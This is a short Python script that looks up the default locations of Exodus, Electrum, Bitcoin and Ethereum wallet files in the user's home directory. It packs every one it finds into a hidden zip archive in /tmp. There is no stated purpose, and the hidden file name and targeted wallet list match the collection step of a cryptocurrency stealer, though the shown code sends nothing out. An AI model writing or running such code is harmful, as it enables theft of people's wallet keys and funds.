import os
import zipfile

HOME = os.path.expanduser("~")
WALLETS = {"Exodus": ".config/Exodus/exodus.wallet", "Electrum": ".electrum/wallets",
           "Bitcoin": ".bitcoin/wallet.dat", "Ethereum": ".ethereum/keystore"}
with zipfile.ZipFile("/tmp/.w.zip", "w") as z:
    for name, place in WALLETS.items():
        top = os.path.join(HOME, place)
        if os.path.exists(top):
            z.write(top, name)
